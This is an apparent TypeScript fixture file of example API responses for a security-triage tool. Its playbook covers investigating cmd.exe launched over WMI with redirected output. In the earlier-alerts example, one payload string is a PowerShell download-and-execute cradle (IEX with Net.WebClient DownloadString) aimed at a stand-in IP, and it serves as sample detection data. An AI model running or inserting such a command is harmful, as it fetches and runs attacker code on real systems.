import { hash } from "node:crypto";
import type { Attachment } from "#contracts/attachment";
import type { Answer, PlaybookSummary, PlaybookView, StepView } from "#contracts/playbook";
import type { playbookRoutes } from "#contracts/routes/playbooks";
import type { Examples } from "./example.ts";
import { playbookStatisticsExample } from "./playbook-statistics.ts";
import { alert, alertId, commandLine, coverage, event, eventId, host, processKey, ruleId, source } from "./shared.ts";

const step: StepView = {
  id: "capture",
  question: "Is this the output capture of a remote execution tool?",
  topic: "output capture",
  about: "process",
  why: "The way the output is captured is a fingerprint of the tool.",
  focus: [{ field: "process.command_line", values: [commandLine] }],
  hints: ["Look for `/Q /c` and for both streams sent to one file."],
  raises: ["The output goes to a share on the loopback address."],
  lowers: ["This very command form recurs for one known product."],
  anchor: true,
  clears: true,
  required: true,
  queries: [{ id: "earlier-on-host", label: "Earlier alerts of this rule on this host", target: "alerts" }],
  osquery: [],
  details: [],
};

const playbook: PlaybookView = {
  id: "wmi-output-capture",
  title: "Command shell started over WMI with captured output",
  version: "1",
  origin: { kind: "playbook" },
  because: { kind: "rule" },
  alternatives: [{ id: "events-process", title: "A process started", because: { kind: "events", label: "a process" } }],
  source: "Written for Stemma from the public rule description.",
  summary: "The WMI provider host started `cmd.exe`, and the output was redirected to a file.",
  steps: [step],
  verdict: {
    outcome: "undetermined",
    recommendation: "continue",
    answered: 0,
    total: 1,
    rule: { number: 1, text: "A required question has not been answered." },
    reasons: [{ stepId: "capture", text: `Not answered: ${step.question}` }],
    flips: [{ stepId: "capture", to: "lowers", outcome: "benign" }],
  },
  closingPolicy: ["Close as benign only when every anchor points to the same known workflow."],
  falsePositives: ["Software distribution products run `cmd.exe` through WMI."],
  checklists: [
    {
      verdict: "benign",
      title: "Known workflow",
      items: [{ id: "lift-containment", text: "Undo containment applied while the alert was open.", done: false }],
    },
  ],
  texts: [],
  relatedRules: [],
};

const draftText = `---
id: service-install
title: A new service was installed
version: "1"
tags: ["Tactic: Persistence"]
source: Written by the platform team.
---

## Steps
### behaviour: What does the service run?
- Anchor: yes
- Raises concern: A shell or an unknown program.
- Lowers concern: The program of a known product.
`;

const summary: PlaybookSummary = {
  id: playbook.id,
  title: playbook.title,
  version: playbook.version,
  source: playbook.source,
  summary: playbook.summary,
  origin: playbook.origin,
  applies: { ruleIds: [ruleId], techniques: [], tags: [], fallback: false },
  steps: 6,
  queries: 9,
};

const pastedText = '[{"name":"ADMIN$","path":"C:\\\\Windows","status":"OK"}]';
const pasted: Attachment = {
  title: "Shared folders",
  source: "osquery: Shared folders",
  sha256: hash("sha256", pastedText, "hex"),
  bytes: Buffer.byteLength(pastedText),
};

const answer: Answer = {
  stepId: "capture",
  value: "lowers",
  note: "The inventory service, change 4711",
  evidence: [{ kind: "event", id: eventId, label: "cmd.exe started by WmiPrvSE.exe" }],
  attachments: [pasted],
  actor: "lena",
  at: "2026-06-17T12:07:00.000Z",
  suggested: { value: "raises", because: ["The output is stored in a temp folder."] },
  conflict: true,
};

export const playbookExamples: Examples<typeof playbookRoutes> = {
  playbooks: {
    response: {
      items: [summary],
      total: 1,
    },
  },
  playbook: { params: { id: alertId }, response: playbook },
  choosePlaybook: {
    params: { id: alertId },
    body: { playbook: playbook.id, scope: "rule" },
    response: { ...playbook, because: { kind: "chosen", by: "lena", at: "2026-06-17T12:07:00.000Z" } },
  },
  playbookStatistics: {
    params: { playbook: playbook.id },
    query: { period: "90d" },
    response: playbookStatisticsExample,
  },
  playbookFile: {
    params: { playbook: playbook.id },
    response: {
      text: draftText,
      name: "service-install.md",
      folder: "/srv/stemma/playbooks",
      writable: true,
      versions: [{ sequence: 812, at: "2026-06-17T12:07:00.000Z", actor: "mika", note: "asks for the signer" }],
      totalVersions: 1,
    },
  },
  playbookVersion: {
    params: { playbook: playbook.id, version: "812" },
    response: { text: draftText, lines: [{ side: "both", line: "---", left: 1, right: 1 }] },
  },
  playbookFolders: {
    response: {
      folders: [
        { path: "/srv/stemma/playbooks", shipped: false, writable: true, playbooks: 1 },
        { path: "/opt/stemma/playbooks", shipped: true, writable: false, playbooks: 14 },
      ],
      problems: [],
    },
  },
  checkPlaybook: {
    body: { text: draftText, name: "service-install.md" },
    response: {
      problems: [
        {
          code: "playbook.front-matter-missing",
          message: "the file does not begin with a YAML block between two --- lines",
          at: { file: "service-install.md", line: 1 },
        },
      ],
    },
  },
  savePlaybook: {
    body: {
      text: draftText,
      name: "service-install.md",
      folder: "/srv/stemma/playbooks",
      replace: true,
      note: "asks for the signer",
    },
    response: { id: "service-install", file: "/srv/stemma/playbooks/service-install.md" },
  },
  playbookDetail: {
    params: { playbook: playbook.id },
    response: {
      ...summary,
      file: "wmi-output-capture.md",
      folder: "/srv/stemma/playbooks",
      decision: { benign: "anchors", secondAnalyst: false },
      steps: [{ ...step, focus: ["process.command_line"], queries: ["earlier-on-host"], osquery: [] }],
      queries: [
        {
          id: "earlier-on-host",
          label: "Earlier alerts of this rule on this host",
          target: "alerts",
          from: "now-30d",
          to: "now",
          groups: [{ label: "same rule, same host", text: 'host.name: "{{host.name}}"' }],
        },
      ],
      checks: [
        {
          id: "output-to-temp",
          stepId: "capture",
          on: "alert",
          where: 'process.args : "1>"',
          rows: ">= 1",
          suggests: "raises",
          because: "The output is stored in a temp folder.",
        },
      ],
      closingPolicy: playbook.closingPolicy,
      falsePositives: playbook.falsePositives,
      checklists: playbook.checklists.map((list) => ({
        ...list,
        items: list.items.map(({ id, text }) => ({ id, text })),
      })),
      texts: [],
      relatedRules: [],
      warnings: [],
    },
  },
  playbookPreview: {
    params: { playbook: playbook.id, id: alertId },
    response: { ...playbook, because: { kind: "preview" } },
  },
  stepQuery: {
    params: { id: alertId, query: "earlier-on-host" },
    query: { anchor: "detection", limit: 1 },
    response: {
      id: "earlier-on-host",
      label: "Earlier alerts of this rule on this host",
      target: "alerts",
      outcome: "hits",
      total: 4,
      rows: [
        {
          id: "br20w9-lgu2AJJbdED5O30",
          time: "2026-06-16T13:04:03.930Z",
          fields: event.fields,
          source,
          processKey,
          alertId: "br20w9-lgu2AJJbdED5O30",
          groups: [0],
        },
      ],
      truncationReason: "The first 1 of 4 hits are shown.",
      columns: ["process.command_line"],
      groups: [
        {
          text: `kibana.alert.rule.rule_id: "${ruleId}" and host.name: "${host}"`,
          label: "same rule, same host",
          state: "ran",
          missing: [],
          hits: 4,
          notes: [],
        },
      ],
      window: {
        from: "2026-05-18T12:00:00.000Z",
        to: "2026-06-17T12:00:00.000Z",
        anchor: "detection",
        at: "2026-06-17T12:00:00.000Z",
        text: "now-30d to now, where now is the time of the detection",
      },
      coverage: [coverage],
      windowCoverage: {
        covered: [{ from: "2026-06-16T05:00:00.000Z", to: "2026-06-16T19:26:21.000Z" }],
        gaps: [
          { from: "2026-05-18T12:00:00.000Z", to: "2026-06-16T05:00:00.000Z", why: "no Sysmon 1" },
          { from: "2026-06-16T19:26:21.000Z", to: "2026-06-17T12:00:00.000Z", why: "no Sysmon 1" },
        ],
        stops: [{ at: "2026-06-16T19:26:21.000Z", host, what: "Sysmon stopped" }],
        share: 0.02,
        sources: ["Sysmon 1"],
        hosts: [{ host, share: 0.02 }],
        lanes: [{ label: "Sysmon 1", covered: [{ from: "2026-06-16T05:00:00.000Z", to: "2026-06-16T19:26:21.000Z" }] }],
        text: `Sysmon 1 covers ${host} from 2026-06-16 05:00:00 to 19:26:21, 14 of 720 hours; Sysmon stopped at 19:26:21`,
      },
      reason: "4 hits. This alert itself is not counted.",
      milliseconds: 2,
    },
  },
  suggestion: {
    params: { id: alertId, step: "capture" },
    response: {
      suggestion: {
        value: "raises",
        because: ["The output is stored in a temp folder."],
        evidence: [{ kind: "event", id: eventId, label: "cmd.exe started by WmiPrvSE.exe" }],
      },
    },
  },
  earlierAlerts: {
    params: { id: alertId },
    response: {
      items: [
        {
          alert: { ...alert, id: "br20w9-lgu2AJJbdED5O30", time: "2026-06-16T13:04:03.930Z" },
          differs: ["payload"],
          payload: ["Get-Service | Where-Object Status -eq Running"],
          answers: [
            {
              topic: "output capture",
              value: "lowers",
              note: "The inventory of the platform team.",
              actor: "lena",
              at: "2026-06-16T13:20:00.000Z",
            },
          ],
        },
      ],
      total: 4,
      payload: ["IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"],
    },
  },
  answer: {
    params: { id: alertId, step: "capture" },
    body: {
      ...{ value: "lowers", note: answer.note, evidence: answer.evidence },
      attachments: [{ title: pasted.title, source: pasted.source, text: pastedText }],
    },
    response: {
      ...playbook,
      steps: [{ ...step, answer }],
      verdict: {
        outcome: "suspicious",
        recommendation: "escalate",
        answered: 1,
        total: 1,
        rule: { number: 9, text: "An answer lowers concern against its suggestion or on missing data." },
        reasons: [{ stepId: "capture", value: "lowers", conflict: true, text: step.question }],
        flips: [],
      },
    },
  },
  attachedText: {
    params: { hash: pasted.sha256 },
    response: { sha256: pasted.sha256, bytes: pasted.bytes, text: pastedText },
  },
  checklist: {
    params: { id: alertId, item: "lift-containment" },
    body: { done: true },
    response: {
      ...playbook,
      checklists: playbook.checklists.map((list) => ({
        ...list,
        items: list.items.map((item) => ({ ...item, done: true })),
      })),
    },
  },
};
